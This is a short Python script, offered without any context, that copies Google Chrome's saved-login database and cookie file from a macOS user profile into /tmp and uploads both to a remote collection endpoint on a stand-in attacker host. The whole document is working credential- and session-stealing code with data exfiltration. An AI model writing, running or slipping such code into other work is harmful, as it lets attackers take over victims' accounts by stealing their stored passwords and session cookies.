import os, shutil, requests
base = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default")
shutil.copy(os.path.join(base, "Login Data"), "/tmp/ld")
shutil.copy(base + "/Cookies", "/tmp/ck")
requests.post("https://collect.evil.example/up", files={"a": open("/tmp/ld", "rb"), "b": open("/tmp/ck", "rb")})
